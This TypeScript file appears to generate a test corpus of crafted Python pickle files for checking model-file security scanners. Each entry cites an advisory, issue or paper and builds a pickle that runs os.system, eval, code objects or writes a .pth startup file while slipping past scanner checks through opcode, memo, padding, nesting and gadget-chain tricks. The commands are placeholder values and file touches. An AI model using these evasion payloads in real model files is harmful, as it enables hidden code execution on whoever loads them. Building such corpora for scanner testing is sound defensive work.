import { type Attack, attack, doubtful } from './attack.ts'
import {
  attribute,
  call,
  calling,
  dict,
  EMPTY,
  HARMLESS,
  list,
  named,
  OLD_PAYLOAD,
  PAYLOAD,
  raw,
  SYSTEM,
  stream,
  text,
  tuple,
} from './make-pickle.ts'

const COMMAND = tuple(text(HARMLESS))
const OS = call(named('importlib', 'import_module'), text('os'))
const PATH = call(named('pathlib', 'PosixPath'), text('sallyport'))
const TOUCH = named('pathlib', 'Path.touch')
const JOINED = call(named('builtins', 'str.join'), text(''), list(text('sys'), text('tem')))
const NAMESPACE = call(named('argparse', 'Namespace'))
const eight = (length: number): string =>
  `${String.fromCharCode(length & 255, (length >> 8) & 255)}\0\0\0\0\0\0`

/** A class made while loading, with one special method bound to what touches a file, and the operator that calls it. */
function dunder(method: string, fired: (made: string) => string): string {
  const made = call(
    call(
      named('builtins', 'type'),
      text('X'),
      tuple(named('pathlib', 'PosixPath')),
      dict({ [method]: TOUCH }),
    ),
    text('sallyport'),
  )
  return stream(fired(made))
}

const binary = (name: string) => (made: string) => call(named('operator', name), made, 'K\x01')
const reflected = (name: string) => (made: string) => call(named('operator', name), 'K\x01', made)

/** Special methods that the log of modelaudit goes through, by what fires them. */
const BINARY =
  'lt le gt ge eq ne getitem delitem contains add sub mul matmul truediv floordiv mod pow lshift rshift and_ xor or_ iadd isub imul imatmul itruediv imod ipow ilshift irshift iand ixor ior'.split(
    ' ',
  )
const REFLECTED = 'add sub mul matmul truediv mod pow lshift rshift and_ xor or_'.split(' ')
const UNARY =
  'operator.neg operator.pos operator.abs operator.invert operator.index operator.length_hint builtins.len builtins.repr builtins.str builtins.bytes builtins.hash builtins.bool builtins.format builtins.next builtins.reversed builtins.anext builtins.iter builtins.aiter builtins.round math.floor math.ceil math.trunc os.fspath'.split(
    ' ',
  )
const DUNDERS: readonly (readonly [string, (made: string) => string])[] = [
  ...BINARY.map((name) => [`__${name.replace('_', '')}__`, binary(name)] as const),
  ...REFLECTED.map((name) => [`__r${name.replace('_', '')}__`, reflected(name)] as const),
  ...UNARY.map((path) => {
    const [module = '', name = ''] = path.split('.')
    return [`__${name}__`, (made: string) => call(named(module, name), made)] as const
  }),
  ['__del__', (made) => `${made}0N`],
]

/** Opcodes and memo: what a scanner reads differently from the unpickler. */
const READING: readonly Attack[] = [
  attack(
    'mmaitre314/picklescan#13',
    'INST, the opcode of protocol 0',
    'inst.pkl',
    `(V${HARMLESS}\nios\nsystem\n.`,
  ),
  attack(
    'mmaitre314/picklescan#14 mmaitre314/picklescan#22',
    'MEMOIZE counts entries while PUT names its index',
    'memo.pkl',
    `\x80\x04${text('x')}q\x07${text('os')}\x940${text('system')}\x940h\x01h\x02\x93${COMMAND}R.`,
  ),
  attack(
    'mmaitre314/picklescan#14 mmaitre314/picklescan#22',
    'a memo index far beyond the entries',
    'far-memo.pkl',
    `\x80\x04${text('os')}r\xff\xff\x00\x000${text('system')}q\x000j\xff\xff\x00\x00h\x00\x93${COMMAND}R.`,
  ),
  attack(
    'mmaitre314/picklescan#22',
    'a memo entry that is not there stops the reading',
    'missing-memo.pkl',
    `\x80\x04${call(SYSTEM, text(HARMLESS))}0${text('os')}h\x03h\x00\x93.`,
  ),
  attack(
    'mmaitre314/picklescan#22',
    'STACK_GLOBAL of a number stops the reading',
    'wrong-type.pkl',
    `\x80\x04${call(SYSTEM, text(HARMLESS))}0J*\x00\x00\x00\x94${text('os')}\x94h\x00h\x01\x93.`,
  ),
  attack(
    'mmaitre314/picklescan#26',
    'lines that end in carriage returns',
    'newline.pkl',
    `cos\r\nsystem\r\n(V${HARMLESS}\ntR.`,
  ),
  attack(
    'GHSA-9gvj-pp9x-gcfr',
    'STACK_GLOBAL whose names come from STRING opcodes of protocol 0',
    'operands.pkl',
    `S'os'\nS'system'\n\x93S'${HARMLESS}'\n\x85R.`,
  ),
  attack(
    'GHSA-9gvj-pp9x-gcfr',
    'STACK_GLOBAL whose names are duplicated and popped',
    'duplicates.pkl',
    stream(`N${text('os')}${text('y')}0${text('system')}\x93${COMMAND}R`),
  ),
  attack(
    'GHSA-mxhj-88fx-4pcv',
    'the result of OBJ is popped',
    'popped.pkl',
    `\x80\x04(${named('smtplib', 'SMTP')}${text('127.0.0.1')}o0N.`,
  ),
  attack(
    'trailofbits/fickling#317',
    'a FRAME that ends inside an opcode',
    'frame.pkl',
    `\x80\x04\x95${eight(3)}${PAYLOAD.slice(2)}`,
  ),
  attack(
    'promptfoo/modelaudit#625',
    'payload, then a malformed tail',
    'tail.pkl',
    `${PAYLOAD.slice(0, -1)}\xff\xff\xff`,
  ),
  attack('promptfoo/modelaudit#625', 'a stream without STOP', 'no-stop.pkl', PAYLOAD.slice(0, -1)),
  doubtful(
    'what the code stands for is not in the file',
    attack(
      'promptfoo/modelaudit#623',
      'EXT1, EXT2 and EXT4 name what a registry elsewhere holds',
      'extension.pkl',
      `\x80\x02\x82\x07${text('id').replace('\x8c\x02', 'X\x02\0\0\0')}\x85R.`,
    ),
  ),
  attack(
    'promptfoo/modelaudit',
    'an extension code is registered, then used',
    'registered.pkl',
    stream(
      call(named('copyreg', 'add_extension'), text('os'), text('system'), 'K\x07'),
      '0\x82\x07',
      COMMAND,
      'R',
    ),
  ),
  attack(
    'promptfoo/modelaudit',
    'nested in BINBYTES8',
    'nested8.pkl',
    stream(`\x8e${eight(PAYLOAD.length)}${PAYLOAD}`),
  ),
  attack(
    'promptfoo/modelaudit',
    'nested in BYTEARRAY8',
    'bytearray8.pkl',
    stream(`\x96${eight(PAYLOAD.length)}${PAYLOAD}`),
  ),
  attack(
    'promptfoo/modelaudit',
    'nested in base64',
    'base64.pkl',
    stream(list(text(Buffer.from(PAYLOAD, 'latin1').toString('base64')))),
  ),
  attack(
    'promptfoo/modelaudit',
    'nested in hexadecimal digits',
    'hex.pkl',
    stream(list(text(Buffer.from(PAYLOAD, 'latin1').toString('hex')))),
  ),
  attack(
    'promptfoo/modelaudit',
    'nested, and loaded by pickle.loads',
    'loads.pkl',
    stream(call(named('pickle', 'loads'), raw(PAYLOAD))),
  ),
  attack(
    'promptfoo/modelaudit',
    'a late stream after padding',
    'late.pkl',
    `${EMPTY}${'\0'.repeat(70_000)}${PAYLOAD}`,
  ),
  attack(
    'promptfoo/modelaudit',
    'a late stream of protocol 0 after padding',
    'late0.pkl',
    `${EMPTY}${'\0'.repeat(5000)}${OLD_PAYLOAD}`,
  ),
  attack(
    'promptfoo/modelaudit',
    'behind two million opcodes, where a budget may have ended',
    'budget.pkl',
    `\x80\x04${'N0'.repeat(1_000_000)}${call(SYSTEM, text(HARMLESS))}.`,
  ),
  attack(
    'promptfoo/modelaudit',
    'after a prefix of thousands of streams with nothing in them',
    'prefix.pkl',
    `${'N.'.repeat(5000)}${PAYLOAD}`,
  ),
  attack(
    'trailofbits/fickling#211',
    'billion laughs: lists that double, and a payload behind them',
    'laughs.pkl',
    `\x80\x02(lp0\n${Array.from({ length: 60 }, (_, i) => `(g${i}\ng${i}\ng${i}\nlp${i + 1}\n`).join('')}0${OLD_PAYLOAD}`,
  ),
  attack(
    'arXiv:2508.19774',
    'exception before the payload is seen: an unhashable key',
    'unhashable.pkl',
    stream('}]Ns0', call(SYSTEM, text(HARMLESS))),
  ),
  attack(
    'arXiv:2508.19774',
    'exception after the payload: NEWOBJ of what is no class',
    'no-class.pkl',
    stream(call(SYSTEM, text(HARMLESS)), 'NN\x81'),
  ),
  attack(
    'arXiv:2508.19774',
    'exception: an unknown protocol number in the middle',
    'protocol.pkl',
    `\x80\x04N0\x80\x09${PAYLOAD}`,
  ),
  attack(
    'arXiv:2508.19774',
    'exception: a text that is no UTF-8',
    'utf8.pkl',
    stream('X\x02\0\0\0\xff\xfe0', call(SYSTEM, text(HARMLESS))),
  ),
  attack(
    'arXiv:2508.19774',
    'exception: a number that only Python reads',
    'number.pkl',
    `I0x10\n0${OLD_PAYLOAD}`,
  ),
  attack(
    'arXiv:2508.19774',
    'exception: a claim of more bytes than there are',
    'claim.pkl',
    `\x80\x04]B\xff\xff\xff\x7f${PAYLOAD}`,
  ),
  attack(
    'arXiv:2508.19774',
    'exception: a persistent id without a loader for it',
    'persistent.pkl',
    `\x80\x04${text('x')}Q0${call(SYSTEM, text(HARMLESS))}.`,
  ),
]

/** Calls that are put together from harmless names. */
const CHAINS: readonly Attack[] = [
  attack(
    'GHSA-955r-x9j8-7rhh mmaitre314/picklescan#74',
    '_operator.attrgetter fetches system from what __import__ gave',
    'attrgetter.pkl',
    `cbuiltins\n__import__\n(Vos\ntRp0\n0c_operator\nattrgetter\n(Vsystem\ntR(g0\ntR(V${HARMLESS}\ntR.`,
  ),
  attack(
    'GHSA-46h3-79wf-xr6c',
    '_operator.methodcaller calls system of what __import__ gave',
    'methodcaller.pkl',
    `cbuiltins\n__import__\n(Vos\ntRp0\n0c_operator\nmethodcaller\n(Vsystem\nV${HARMLESS}\ntR(g0\ntR.`,
  ),
  attack(
    'GHSA-84r2-jw7c-4r5q',
    'operator.methodcaller calls system of what pydoc.locate found',
    'locate.pkl',
    stream(
      call(
        call(named('operator', 'methodcaller'), text('system'), text(HARMLESS)),
        call(named('pydoc', 'locate'), text('os')),
      ),
    ),
  ),
  attack(
    'GHSA-vvpj-8cmc-gx39',
    'pkgutil.resolve_name finds os:system, which is called',
    'resolved.pkl',
    stream(call(call(named('pkgutil', 'resolve_name'), text('os:system')), text(HARMLESS))),
  ),
  attack(
    'GHSA-9m3x-qqw2-h32h',
    'cloudpickle makes a function of a code object and calls it',
    'cloudpickle.pkl',
    stream(
      call(
        call(
          named('cloudpickle.cloudpickle', '_make_function'),
          call(call(named('cloudpickle.cloudpickle', '_builtin_type'), text('CodeType')), 'K\x00'),
          dict({}),
          'N',
          'N',
          'N',
        ),
        text(HARMLESS),
      ),
    ),
  ),
  attack(
    'GHSA-9m3x-qqw2-h32h',
    'cloudpickle imports os, and system is called',
    'subimport.pkl',
    stream(
      call(
        attribute(call(named('cloudpickle.cloudpickle', 'subimport'), text('os')), 'system'),
        text(HARMLESS),
      ),
    ),
  ),
  attack(
    'GHSA-565g-hwwr-4pp3',
    'marshal makes a code object, types a function of it',
    'function.pkl',
    stream(call(call(named('types', 'FunctionType'), call(named('marshal', 'loads'), raw('x')), dict({})))),
  ),
  attack(
    'GHSA-h4rm-mm56-xf63',
    'getattr and __import__ of the built-in functions',
    'builtins.pkl',
    stream(call(attribute(call(named('builtins', '__import__'), text('os')), 'system'), text(HARMLESS))),
  ),
  attack(
    'GHSA-q5qq-mvfm-j35x CVE-2026-22609',
    'a submodule whose parent is denied',
    'submodule.pkl',
    calling('multiprocessing.pool', 'Pool'),
  ),
  attack(
    'GHSA-f7qq-56ww-84cr CVE-2025-10157',
    'a submodule of a denied module',
    'denied.pkl',
    calling('asyncio.unix_events.deeper', 'anything'),
  ),
  attack(
    'GHSA-5j3x-jp52-966f',
    'a dotted name climbs from a harmless module to os',
    'dotted.pkl',
    calling('torch.serialization', 'os.system'),
  ),
  attack(
    'GHSA-6ggj-6f2q-f7mx',
    '__setstate__ is planted by one BUILD and called by the next',
    'setstate.pkl',
    stream(NAMESPACE, dict({ __setstate__: named('_interpreters', 'run_string') }), 'b', text(HARMLESS), 'b'),
  ),
  attack(
    'GHSA-wccx-j62j-r448 GHSA-fphw-536r-4p88',
    'another entry to the unpickler: pickle._loads',
    'entry.pkl',
    stream(call(named('pickle', '_loads'), raw(PAYLOAD))),
  ),
  attack(
    'GHSA-wccx-j62j-r448',
    'another entry to the unpickler: _pickle.Unpickler',
    'unpickler.pkl',
    calling('_pickle', 'Unpickler'),
  ),
  attack(
    'protectai/modelscan#85',
    'BUILD puts attributes on numpy.prod, a dotted name reads them',
    'prod.pkl',
    stream(
      named('numpy', 'prod'),
      'N',
      dict({ f: named('numpy', 'sum') }),
      '\x86b0',
      call(named('numpy', 'prod.f'), text(HARMLESS)),
    ),
  ),
  attack(
    'protectai/modelscan#330',
    'numpy.__builtins__ gives eval',
    'builtins-of-numpy.pkl',
    stream(
      call(call(named('operator', 'getitem'), named('numpy', '__builtins__'), text('eval')), text('1 + 1')),
    ),
  ),
  attack(
    'protectai/modelscan#330',
    'BUILD gives numpy.size the attribute that it reads, and it returns eval',
    'size.pkl',
    stream(
      `${named('numpy', 'size')}\x94${named('numpy', '__builtins__')}\x94h\x00}}${text('shape')}h\x01s\x86b`,
      `h\x00h\x00${text('eval')}\x86R${text('1 + 1')}\x85R`,
    ),
  ),
  attack(
    'protectai/modelscan#331',
    'importlib gives the built-in functions, getattr their str.join, and that the names',
    'join-of-builtins.pkl',
    stream(
      call(
        attribute(
          call(
            named('importlib', 'import_module'),
            call(
              attribute(
                attribute(call(named('importlib', 'import_module'), text('builtins')), 'str'),
                'join',
              ),
              text(''),
              list(text('o'), text('s')),
            ),
          ),
          'system',
        ),
        text(HARMLESS),
      ),
    ),
  ),
  attack(
    'protectai/modelscan#28',
    'dill makes a function of a code object and calls it',
    'dill.pkl',
    stream(
      call(
        call(
          named('dill._dill', '_create_function'),
          call(named('dill._dill', '_create_code'), 'K\x00', text('c')),
          dict({}),
        ),
      ),
    ),
  ),
  attack(
    'protectai/modelscan#331',
    'importlib, and a name that str.join makes',
    'join.pkl',
    stream(call(attribute(OS, 'system').replace(text('system'), JOINED), text(HARMLESS))),
  ),
  attack(
    'modelaudit-turns',
    'builtins.__dict__, dict.get and str.join',
    'dict-get.pkl',
    stream(
      call(
        call(
          named('builtins', 'dict.get'),
          named('builtins', '__dict__'),
          call(named('builtins', 'str.join'), text(''), list(text('ev'), text('al'))),
        ),
        text('1 + 1'),
      ),
    ),
  ),
  attack(
    'modelaudit-turns',
    'operator.call of Path.touch',
    'operator-call.pkl',
    stream(call(named('operator', 'call'), TOUCH, PATH)),
  ),
  attack(
    'modelaudit-turns',
    'sched.scheduler with os.system as its clock',
    'scheduler.pkl',
    stream(call(named('sched', 'scheduler'), SYSTEM, SYSTEM)),
  ),
  attack(
    'modelaudit-turns',
    'contextlib.ExitStack calls Path.touch',
    'exit-stack.pkl',
    stream(
      call(named('contextlib', 'ExitStack.callback'), call(named('contextlib', 'ExitStack')), TOUCH, PATH),
    ),
  ),
  attack(
    'modelaudit-turns',
    'weakref.finalize of Path.touch',
    'finalize.pkl',
    stream(call(named('weakref', 'finalize'), PATH, TOUCH, PATH)),
  ),
  attack(
    'modelaudit-turns',
    'Mock whose side effect is os.system',
    'mock.pkl',
    stream(call(named('unittest.mock', 'Mock'), 'N', SYSTEM)),
  ),
  attack(
    'modelaudit-turns',
    'typing._eval_type of a ForwardRef',
    'forward-ref.pkl',
    stream(
      call(
        named('typing', '_eval_type'),
        call(named('typing', 'ForwardRef'), text('f(p) or int')),
        dict({ f: TOUCH, p: PATH }),
        'N',
      ),
    ),
  ),
  attack(
    'modelaudit-turns',
    'typing.get_type_hints of a class made while loading',
    'type-hints.pkl',
    stream(
      call(
        named('typing', 'get_type_hints'),
        call(
          named('builtins', 'type'),
          text('C'),
          ')',
          dict({ __annotations__: dict({ x: text('f(p) or int') }) }),
        ),
        dict({ f: TOUCH, p: PATH }),
        'N',
      ),
    ),
  ),
  attack(
    'modelaudit-turns',
    'an entry put in the registry that pydantic imports from',
    'pydantic.pkl',
    stream(
      named('pydantic', '_dynamic_imports'),
      text('x'),
      tuple(text('os'), text('system')),
      's',
      '0',
      call(named('pydantic', 'x'), text(HARMLESS)),
    ),
  ),
  attack(
    'modelaudit-turns',
    'io.FileIO writes a start file of Python',
    'pth.pkl',
    stream(
      call(
        attribute(call(named('io', 'FileIO'), text('sallyport.pth'), text('w')), 'write'),
        raw('import os'),
      ),
    ),
  ),
  attack(
    'modelaudit-turns',
    'click.LazyFile and csv write a start file of Python',
    'pth-csv.pkl',
    stream(
      call(
        attribute(
          call(
            named('csv', 'writer'),
            call(named('click.utils', 'LazyFile'), text('sallyport.pth'), text('w')),
          ),
          'writerow',
        ),
        list(text('import os')),
      ),
    ),
  ),
  attack(
    'modelaudit-turns',
    'a mailbox writes a start file of Python',
    'pth-mailbox.pkl',
    stream(call(named('mailbox', 'mbox'), text('sallyport.pth'))),
  ),
  attack(
    'ShadowPickle arXiv:2509.06703',
    'an allowed name is overwritten, then called',
    'shadow.pkl',
    stream(
      named('torch', '_utils'),
      dict({ _rebuild_tensor_v2: SYSTEM }),
      'b0',
      call(named('torch._utils', '_rebuild_tensor_v2'), text(HARMLESS)),
    ),
  ),
  attack(
    'arXiv:2508.19774',
    'an allowed library loads a second file: joblib',
    'gadget-joblib.pkl',
    calling('joblib.numpy_pickle', 'load'),
  ),
  attack(
    'arXiv:2508.19774',
    'an allowed library loads a second file: torch',
    'gadget-torch.pkl',
    calling('torch.serialization', 'load'),
  ),
  attack(
    'arXiv:2508.19774',
    'an allowed library loads a second file: numpy',
    'gadget-numpy.pkl',
    calling('numpy.lib.npyio', 'load'),
  ),
  attack(
    'arXiv:2508.19774',
    'an allowed library loads a second file: pandas',
    'gadget-pandas.pkl',
    calling('pandas.io.pickle', 'read_pickle'),
  ),
  attack(
    'arXiv:2508.19774',
    'an allowed library loads a second file: dill',
    'gadget-dill.pkl',
    calling('dill._dill', 'load'),
  ),
  attack(
    'arXiv:2508.19774',
    'an allowed library runs a source: numpy.testing',
    'gadget-runstring.pkl',
    calling('numpy.testing._private.utils', 'runstring'),
  ),
  attack(
    'arXiv:2508.19774',
    'an allowed library runs a source: timeit',
    'gadget-timeit.pkl',
    calling('timeit', 'timeit'),
  ),
  ...DUNDERS.map(([method, fired]) =>
    attack(
      'modelaudit-turns',
      `${method} of a class made while loading is Path.touch`,
      `dunder${method}.pkl`,
      dunder(method, fired),
    ),
  ),
]

export const TRICK_ATTACKS: readonly Attack[] = [...READING, ...CHAINS]
